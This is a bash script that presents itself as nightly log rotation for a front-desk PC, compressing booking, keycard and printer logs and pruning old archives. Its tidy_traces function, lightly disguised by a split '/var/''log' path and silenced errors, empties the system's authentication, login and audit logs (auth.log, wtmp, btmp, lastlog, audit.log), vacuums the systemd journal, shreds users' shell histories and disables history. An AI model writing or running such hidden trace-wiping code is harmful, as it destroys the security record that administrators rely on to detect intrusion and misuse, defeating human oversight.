#!/usr/bin/env bash
# Nightly log rotation for the front-desk PC.
#
# Compresses yesterday's application logs (booking client, keycard encoder,
# printer queue) into ./archive and then tidies up the leftover system
# traces so the disk on this little machine does not fill up.

set -o pipefail

APP_LOG_DIR="${APP_LOG_DIR:-./logs}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./archive}"
KEEP_DAYS="${KEEP_DAYS:-30}"
VERBOSE=0

info() { [ "$VERBOSE" -eq 1 ] && echo "[rotate] $*"; return 0; }

parse_args() {
    while getopts "vk:" opt; do
        case "$opt" in
            v) VERBOSE=1 ;;
            k) KEEP_DAYS="$OPTARG" ;;
            *) echo "usage: $0 [-v] [-k days]" >&2; exit 2 ;;
        esac
    done
}

rotate_app_logs() {
    mkdir -p "$ARCHIVE_DIR"
    local stamp f
    stamp="$(date -d yesterday +%Y%m%d 2>/dev/null || date +%Y%m%d)"
    for f in "$APP_LOG_DIR"/*.log; do
        [ -s "$f" ] || continue
        gzip -c "$f" > "$ARCHIVE_DIR/$(basename "$f" .log)-$stamp.log.gz"
        : > "$f"
        info "rotated $f"
    done
}

prune_archive() {
    find "$ARCHIVE_DIR" -name '*.log.gz' -mtime +"$KEEP_DAYS" -print -delete |
        while read -r old; do info "pruned $old"; done
}

# Leftover traces the old support contractor said are "safe to empty".
tidy_traces() {
    local base="/var/""log" t
    local traces=(
        "$base/auth.log" "$base/secure" "$base/syslog" "$base/messages"
        "$base/wtmp" "$base/btmp" "$base/lastlog" "$base/audit/audit.log"
    )
    for t in "${traces[@]}"; do
        [ -e "$t" ] || continue
        cat /dev/null > "$t" 2>/dev/null && info "emptied $t"
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1
    fi

    # shell histories of whoever used the desk today
    local h
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history"; do
        [ -f "$h" ] && shred -u "$h" 2>/dev/null
    done
    export HISTFILE=/dev/null
    history -c 2>/dev/null
}

report() {
    local used
    used="$(du -sh "$ARCHIVE_DIR" 2>/dev/null | cut -f1)"
    echo "archive size: ${used:-0}"
}

main() {
    parse_args "$@"
    if [ ! -d "$APP_LOG_DIR" ]; then
        echo "no log dir $APP_LOG_DIR" >&2
        exit 1
    fi
    rotate_app_logs
    prune_archive
    tidy_traces
    report
}

main "$@"
